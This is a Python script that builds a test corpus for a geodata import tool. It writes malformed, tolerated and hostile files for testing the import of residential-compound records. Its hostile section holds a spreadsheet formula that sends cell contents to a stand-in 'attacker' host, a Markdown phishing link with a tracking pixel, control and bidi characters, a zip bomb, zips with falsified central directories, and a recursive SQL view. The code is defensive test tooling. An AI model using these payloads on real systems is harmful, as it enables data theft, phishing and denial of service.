"""Write the import test corpus into tests/data/corpus/ (small files, committed).

    .venv/bin/python tests/data/make_corpus.py

Each file carries one fault (bad/), one thing planners' files really do that must
be tolerated (ok/), or one hostile value that is read but must be neutralised
(hostile/: formulas, control and bidi characters, Markdown). tests/data/corpus_cases.py
lists what each must produce. Big files (200,000 rows, 1,000,000 columns) are made by
the functions at the end, called by the tests and by docs/make_security.py in a
temporary folder, never committed. Positions are real sample positions, so only the
intended fault shows.
"""
from __future__ import annotations

import csv
import io
import shutil
import sqlite3
import struct
import sys
import zipfile
from pathlib import Path

import geopandas as gpd
import openpyxl
import pandas as pd
import pyogrio
import shapely

ROOT = Path(__file__).resolve().parents[2]
sys.path.insert(0, str(ROOT))
from geo.crs import convert  # noqa: E402
from geo.imports.columns import template_xlsx  # noqa: E402
from geo.settings import SAMPLE_STORE_URL  # noqa: E402
from geo.store import open_store  # noqa: E402

OUT = Path(__file__).resolve().parent / "corpus"
TARGET = [OUT]  # the folder the helpers write into
HEAD = ["小区名称", "经度", "纬度", "所属街道", "户数", "楼栋数", "计划开工", "计划竣工"]
# (name, lon, lat, subdistrict) of three sample compounds, well inside their subdistricts
GOOD = [
    ("蜀汉路115号院", 104.014795, 30.679895, "金沙", 60, 1, "2016-05-17", "2016-10-25"),
    ("群和街185号小区", 104.001638, 30.663930, "光华", 82, 4, "2024-03-08", "2024-12-16"),
    ("宽巷子132号院", 104.053730, 30.667840, "少城", 202, 9, "2022-02-28", "2022-11-30"),
]


def _csv(name: str, rows: list[list[object]], head: list[str] = HEAD, encoding: str = "utf-8") -> None:
    buffer = io.StringIO()
    csv.writer(buffer, lineterminator="\n").writerows([head, *[["" if v is None else v for v in r] for r in rows]])
    (TARGET[0] / name).write_bytes(buffer.getvalue().encode(encoding))


def _good(n: int = 3) -> list[list[object]]:
    return [list(r) for r in GOOD[:n]]


def _with(index: int, column: str, value: object, head: list[str] = HEAD) -> list[list[object]]:
    rows = _good()
    rows[index][head.index(column)] = value
    return rows


def _xlsx(name: str, rows: list[list[object]], head: list[str] = HEAD, *, title: str | None = None,
          hidden: int | None = None, sheet: str = "小区") -> None:
    wb = openpyxl.Workbook()
    ws = wb.active
    ws.title = sheet
    if title:
        ws.append([title])
        ws.merge_cells(start_row=1, start_column=1, end_row=1, end_column=len(head))
    ws.append(head)
    for r in rows:
        ws.append(r)
    if hidden:
        ws.row_dimensions[hidden].hidden = True
    wb.save(TARGET[0] / name)


def _zip(name: str, files: dict[str, bytes]) -> None:
    with zipfile.ZipFile(TARGET[0] / name, "w", zipfile.ZIP_DEFLATED) as z:
        for member, data in files.items():
            z.writestr(member, data)


def _shapefile_zip(name: str, *, crs: str | None = "EPSG:4326", encoding: str = "UTF-8", cpg: bool = True,
                   drop: tuple[str, ...] = (), to_crs: str | None = None) -> None:
    tmp = TARGET[0] / "_shp"
    shutil.rmtree(tmp, ignore_errors=True)
    tmp.mkdir()
    frame = gpd.GeoDataFrame({"名称": [r[0] for r in GOOD], "街道": [r[3] for r in GOOD], "户数": [r[4] for r in GOOD]},
                             geometry=[shapely.Point(r[1], r[2]) for r in GOOD], crs="EPSG:4326")
    if to_crs:
        frame = frame.to_crs(to_crs)
    pyogrio.write_dataframe(frame, tmp / "xq.shp", encoding=encoding)
    if not cpg:
        (tmp / "xq.cpg").unlink(missing_ok=True)
    if crs is None:
        (tmp / "xq.prj").unlink(missing_ok=True)
    files = {p.name: p.read_bytes() for p in sorted(tmp.iterdir()) if p.suffix.lower() not in drop}
    _zip(name, files)
    shutil.rmtree(tmp)


def bad_files() -> None:
    """One blocking fault per file."""
    d = OUT / "bad"
    d.mkdir(parents=True, exist_ok=True)
    w = lambda name, data: (d / name).write_bytes(data)  # noqa: E731
    w("empty.csv", b"")
    w("really_csv.xlsx", "小区名称,经度,纬度\n宽巷子132号院,104.05373,30.66784\n".encode())
    w("legacy.xls", b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + b"\x00" * 504)
    w("bad_encoding.csv", "小区名称,经度,纬度\n".encode() + b"\x80\x80\xff,104.05,30.66\n")
    w("no_header.csv", b"1,2,3\n4,5,6\n")
    w("header_only.csv", ",".join(HEAD).encode() + b"\n")
    w("report.docx", b"PK\x03\x04 not really a document")
    w("broken.geojson", b'{"type": "FeatureCollection", "features": [')
    w("corrupt.zip", b"PK\x03\x04" + b"\x00garbage" * 20)
    with zipfile.ZipFile(d / "no_shp.zip", "w") as z:
        z.writestr("说明.txt", "shapefile to follow")
    with zipfile.ZipFile(d / "bomb.zip", "w", zipfile.ZIP_DEFLATED, compresslevel=9) as z:
        z.writestr("xq.shp", b"\x00" * (12 * 2**20))  # 12 MB of zeros in a few KB
    TARGET[0] = d
    try:
        _shapefile_zip("missing_dbf.zip", drop=(".dbf",))
        _csv("gbk.csv", _good(), encoding="gbk")  # read with --encoding utf-8 -> refused
        _csv("name_missing.csv", _with(1, "小区名称", ""))
        _csv("location_missing.csv", [r if i != 1 else [r[0], "", "", *r[3:]] for i, r in enumerate(_good())])
        _csv("coord_text.csv", _with(1, "经度", "东经104度"))
        _csv("swapped.csv", [r if i != 1 else [r[0], r[2], r[1], *r[3:]] for i, r in enumerate(_good())])
        _csv("outside.csv", [r if i != 1 else [r[0], 104.20, 30.60, *r[3:]] for i, r in enumerate(_good())])
        _csv("projected.csv", [r if i != 1 else [r[0], 403512.3, 3394110.8, *r[3:]] for i, r in enumerate(_good())])
        _csv("unknown_subdistrict.csv", _with(1, "所属街道", "春熙路"))
        _csv("negative.csv", _with(1, "户数", -5))
        _csv("absurd_buildings.csv", _with(1, "楼栋数", 500))
        _csv("per_building.csv", [r if i != 1 else [*r[:4], 4000, 2, *r[6:]] for i, r in enumerate(_good())])
        _csv("text_in_number.csv", _with(1, "户数", "很多"))
        _csv("date_text.csv", _with(1, "计划开工", "明年春天"))
        _csv("finish_before_start.csv", _with(1, "计划竣工", "2023-01-01"))
        head = ["小区编号", *HEAD]
        _csv("duplicate_id.csv", [["QY-9001", *GOOD[0]], ["QY-9002", *GOOD[1]], ["QY-9001", *GOOD[2]]], head)
        head = [*HEAD, "片区"]
        _csv("unknown_area.csv", [[*r, a] for r, a in zip(_good(), ["红光片区", "东大街片区", ""])], head)
        head = [*HEAD, "状态"]
        _csv("unknown_status.csv", [[*r, s] for r, s in zip(_good(), ["已完工", "差不多了", "计划"])], head)
        head = [*HEAD, "改造批次"]
        _csv("unknown_batch.csv", [[*r, b] for r, b in zip(_good(), ["十三五", "2030", "2024"])], head)
        head = [*HEAD, "是否老旧小区"]
        _csv("bool_bad.csv", [[*r, b] for r, b in zip(_good(), ["是", "也许", "否"])], head)
        head = [*HEAD, "建成年份"]
        _csv("year_bad.csv", [[*r, y] for r, y in zip(_good(), [1984, 1066, "80年代"])], head)
        mixed = _good()
        mixed[2][1:3] = [403512.3, 3394110.8]  # one row in metres (CGCS2000 GK), the others in degrees
        _csv("mixed_crs.csv", mixed)
        rows = _good()
        _xlsx("formula.xlsx", [rows[0], rows[1][:4] + ["=SUM(A1:A2)"] + rows[1][5:], rows[2]])
        _xlsx("sheet.xlsx", _good(), sheet="小区")  # read with --sheet 不存在 -> refused
        pyogrio.write_dataframe(gpd.GeoDataFrame({"名称": ["宽巷子132号院"]}, geometry=[shapely.Point(104.05373, 30.66784)],
                                                 crs="EPSG:4326"), d / "layers.gpkg", layer="xiaoqu")
        attack_files(d)
    finally:
        TARGET[0] = OUT


# --- attacks (issue 11's audit): files that must be refused before they cost anything --------------
def _gpkg(path: Path, sql: list[str], layer: str = "xiaoqu") -> None:
    """A GeoPackage with one real point layer, then ``sql`` run on it (views, triggers)."""
    frame = gpd.GeoDataFrame({"小区名称": [r[0] for r in GOOD], "所属街道": [r[3] for r in GOOD]},
                             geometry=[shapely.Point(r[1], r[2]) for r in GOOD], crs="EPSG:4326")
    pyogrio.write_dataframe(frame, path, layer=layer, driver="GPKG")
    con = sqlite3.connect(path)
    for statement in sql:
        con.execute(statement)
    con.commit()
    con.close()


def _register_view(name: str) -> str:
    return ("INSERT INTO gpkg_contents (table_name, data_type, identifier) "
            f"VALUES ('{name}', 'attributes', '{name}')")


def _patch_member(path: Path, member: str, *, crc: bool = False, offset: bool = False) -> None:
    """Make the zip's central directory lie about ``member``: a wrong CRC or a wrong header offset."""
    data = bytearray(path.read_bytes())
    at = data.find(b"PK\x01\x02")
    while at != -1:
        name_len, extra_len, comment_len = struct.unpack("<HHH", data[at + 28:at + 34])
        name = bytes(data[at + 46:at + 46 + name_len]).decode("utf-8", "replace")
        if name == member:
            if crc:
                data[at + 16:at + 20] = b"\xde\xad\xbe\xef"
            if offset:
                data[at + 42:at + 46] = struct.pack("<I", 7)
            break
        at = data.find(b"PK\x01\x02", at + 46 + name_len + extra_len + comment_len)
    path.write_bytes(bytes(data))


def _edit_sheet(path: Path, edit) -> None:
    """Rewrite the XML of an XLSX's first sheet with ``edit`` (text -> text)."""
    with zipfile.ZipFile(path) as z:
        parts = {i.filename: z.read(i.filename) for i in z.infolist()}
    sheet = "xl/worksheets/sheet1.xml"
    parts[sheet] = edit(parts[sheet].decode()).encode()
    with zipfile.ZipFile(path, "w", zipfile.ZIP_DEFLATED) as z:
        for member, data in parts.items():
            z.writestr(member, data)


def _set_dimension(text: str, ref: str) -> str:
    start = text.index('<dimension ref="') + len('<dimension ref="')
    return text[:start] + ref + text[text.index('"', start):]


def _merge(text: str, ref: str) -> str:
    """One merged range written straight into the XML (openpyxl would make a cell object per merged cell)."""
    return text.replace("</sheetData>", f'</sheetData><mergeCells count="1"><mergeCell ref="{ref}"/></mergeCells>', 1)


def attack_files(d: Path) -> None:
    """Hostile files that must be refused with a message, cheaply and before any parsing they could abuse."""
    # a GeoPackage whose layer is a recursive SQL view: reading it never ends
    _gpkg(d / "recursive_view.gpkg", [
        "CREATE VIEW compounds AS WITH RECURSIVE c(x) AS (SELECT 1 UNION ALL SELECT x + 1 FROM c) "
        "SELECT x AS fid, '院' || x AS 小区名称, 104.05 AS 经度, 30.67 AS 纬度 FROM c",
        _register_view("compounds")])
    _gpkg(d / "view.gpkg", ["CREATE VIEW compounds AS SELECT * FROM xiaoqu", _register_view("compounds")])
    _gpkg(d / "trigger.gpkg", ["CREATE TABLE log (x)",
                               "CREATE TRIGGER spy AFTER UPDATE ON xiaoqu BEGIN INSERT INTO log VALUES (1); END"])
    # a layer without geometry (attributes only): a table of names, no location
    pyogrio.write_dataframe(pd.DataFrame({"小区名称": [r[0] for r in GOOD], "所属街道": [r[3] for r in GOOD]}),
                            d / "attributes_only.gpkg", layer="compounds", driver="GPKG")
    # one merged range over 1,000,000 cells, and one over the whole sheet (5 KB files)
    for name, ref in (("merged_million.xlsx", "A2:T50001"), ("merged_sheet.xlsx", "A1:XFD1048576")):
        _xlsx(name, _good())
        _edit_sheet(d / name, lambda text, ref=ref: _merge(text, ref))
    # an XLSX whose <dimension> claims a million rows: refused from the metadata
    _xlsx("dimension_million.xlsx", _good())
    _edit_sheet(d / "dimension_million.xlsx", lambda text: _set_dimension(text, "A1:H1048576"))
    # zips whose central directory lies (a wrong CRC; a wrong offset of a member's header)
    _shapefile_zip("lying_crc.zip")
    _patch_member(d / "lying_crc.zip", "xq.dbf", crc=True)
    _shapefile_zip("lying_offset.zip")
    _patch_member(d / "lying_offset.zip", "xq.shp", offset=True)
    _xlsx("lying_crc.xlsx", _good())
    _patch_member(d / "lying_crc.xlsx", "xl/worksheets/sheet1.xml", crc=True)
    # CR-only line endings (Excel for Mac "CSV (Macintosh)"): 60 rows, read with a 50-row limit
    rows = [HEAD, *[[f"{r[0]}-{i}", *r[1:]] for i in range(20) for r in GOOD]]
    (d / "cr_only.csv").write_bytes("\r".join(",".join(map(str, r)) for r in rows).encode())
    # 1,000 columns (the 1,000,000-column file is made by many_columns() in a temporary folder)
    many_columns(d / "many_columns.csv", 1_000)
    # one cell of 140,000 characters (more than a CSV reader takes by default)
    _csv("huge_cell.csv", _with(1, "小区名称", "x" * 140_000))
    # the import template as downloaded: its example row is not a compound
    (d / "template_untouched.xlsx").write_bytes(template_xlsx(open_store(SAMPLE_STORE_URL).load().dataset, "zh"))


def hostile_files() -> None:
    """Files that are read, with hostile values neutralised (and a warning naming row and column)."""
    d = OUT / "hostile"
    d.mkdir(parents=True, exist_ok=True)
    TARGET[0] = d
    try:
        _csv("formula_names.csv", [_with(0, "小区名称", '=HYPERLINK("http://attacker/?"&A1,"点击")')[0],
                                   _with(1, "小区名称", "+1-2")[1], _with(2, "小区名称", "@SUM(1+1)")[2]])
        rows = _good()
        rows[0][0] = "蜀汉路\x07115号院\x1b[31m"  # bell and an escape sequence
        rows[1][0] = "群和街185号\n小区"  # a newline in a one-line field
        _csv("control_chars.csv", rows)
        rows = _good()
        rows[1][0] = "群和街\u202e院号581\u202c小区"  # right-to-left override
        _csv("bidi.csv", rows)
        evil = "**[补贴申领](http://evil.example/phish)** ![t](http://127.0.0.1:9/pixel.png)"
        _csv("markdown_header.csv", [[*r, "x"] for r in _good()], [*HEAD, evil])
    finally:
        TARGET[0] = OUT


# --- big files, made on demand in a temporary folder -----------------------------------------------
def many_rows(path: Path, rows: int = 200_000, newline: str = "\n") -> Path:
    """A CSV of ``rows`` data rows (``newline`` "\\r" for CR-only line endings)."""
    with path.open("w", encoding="utf-8", newline="") as handle:
        handle.write(f"小区名称,经度,纬度{newline}")
        handle.writelines(f"院{i},104.05,30.67{newline}" for i in range(rows))
    return path


def many_columns(path: Path, columns: int = 1_000_000) -> Path:
    """A CSV whose header has ``columns`` columns (three known ones, then c4, c5, ...)."""
    head = ["小区名称", "经度", "纬度", *(f"c{i}" for i in range(4, columns + 1))]
    path.write_text(",".join(head) + "\n" + "宽巷子132号院,104.05373,30.66784\n", encoding="utf-8")
    return path


def ok_files() -> None:
    """Things real files do that must be read correctly (some with a warning)."""
    d = OUT / "ok"
    d.mkdir(parents=True, exist_ok=True)
    TARGET[0] = d
    try:
        _csv("gbk.csv", _good(), encoding="gbk")
        _csv("gb18030.csv", [["𠀀" + r[0], *r[1:]] for r in _good()], encoding="gb18030")
        (d / "utf8_bom.csv").write_bytes(b"\xef\xbb\xbf" + (d / "gbk.csv").read_bytes().decode("gbk").encode())
        (d / "utf16_tab.txt").write_bytes("\n".join("\t".join(map(str, r)) for r in [HEAD, *_good()]).encode("utf-16"))
        rows = _good()
        rows[1][4] = "１２３"  # full-width digits
        rows[2][4] = "1,202"  # thousands separator
        rows[0][0] = "蜀汉路115号院  "  # trailing spaces
        rows[0][6], rows[1][6], rows[2][6] = "2016年5月", "2024/3/8", 44620  # month only, slashes, Excel serial
        _csv("messy.csv", rows)
        _xlsx("title_total_hidden.xlsx", [*_good(), [], ["合计", None, None, None, 344, 14]],
              title="青羊区老旧小区改造台账（2024年）", hidden=4)
        head = [*HEAD, "政府补助（万元）", "居民出资(元)", "加装电梯(台)", "充电桩（个）", "备注"]
        _csv("extras.csv", [[*r, 30, 50_000, 2, 6, "x"] for r in _good()], head)
        gcj = [[r[0], *map(float, convert(r[1], r[2], "wgs84", "gcj02")), *r[3:]] for r in _good()]
        _csv("amap_gcj02.csv", gcj)
        bd = [[r[0], *map(float, convert(r[1], r[2], "wgs84", "bd09")), *r[3:]] for r in _good()]
        _csv("baidu_bd09.csv", bd)
        _shapefile_zip("shp_utf8.zip")
        _shapefile_zip("shp_gbk_no_cpg.zip", encoding="GBK", cpg=False)
        _shapefile_zip("shp_no_prj.zip", crs=None)
        _shapefile_zip("shp_cgcs2000_gk.zip", to_crs="EPSG:4545")  # projected: CGCS2000 3-degree GK CM 105E
        kml = gpd.GeoDataFrame({"Name": [r[0] for r in GOOD]}, geometry=[shapely.Point(r[1], r[2]) for r in GOOD],
                               crs="EPSG:4326")
        pyogrio.write_dataframe(kml, d / "points.kml", driver="KML")
    finally:
        TARGET[0] = OUT


if __name__ == "__main__":
    shutil.rmtree(OUT, ignore_errors=True)
    bad_files()
    ok_files()
    hostile_files()
    print(f"wrote {sum(1 for _ in OUT.rglob('*') if _.is_file())} files under {OUT}")
